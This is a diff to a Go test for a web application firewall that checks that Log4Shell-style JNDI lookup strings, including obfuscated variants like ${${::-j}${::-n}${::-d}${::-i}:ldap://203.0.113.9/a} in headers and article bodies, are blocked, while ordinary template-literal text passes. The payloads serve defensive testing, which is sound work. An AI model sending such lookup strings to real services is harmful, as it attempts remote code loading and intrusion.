@@ -76,6 +76,8 @@ func TestCRSBlocksAttacksAndPassesConduitTraffic(t *testing.T) {
 		{"JNDI lookup in an article body", "POST", "/api/articles", `{"article":{"title":"t","description":"d","body":"${jndi:dns://203.0.113.9/a}"}}`, nil, true},
 		{"obfuscated JNDI lookup", "GET", "/api/tags", "", map[string]string{"User-Agent": "${${lower:j}ndi:ldap://203.0.113.9/a}"}, true},
 		{"a template literal in an article", "POST", "/api/articles", `{"article":{"title":"JS","description":"d","body":"const s = ` + "`${a} and ${b}`" + `;"}}`, nil, false},
+		{"nested templates in an article", "POST", "/api/articles", `{"article":{"title":"JS","description":"d","body":"s = ${ok ? ` + "`${b}`" + ` : c}; PORT=${PORT:-${DEFAULT}}"}}`, nil, false},
+		{"a ${::-j} lookup", "GET", "/api/tags", "", map[string]string{"X-Api-Version": "${${::-j}${::-n}${::-d}${::-i}:ldap://203.0.113.9/a}"}, true},
 	}
 	for _, tt := range tests {
 		v := inspect(t, w, tt.method, tt.target, tt.body, tt.header)
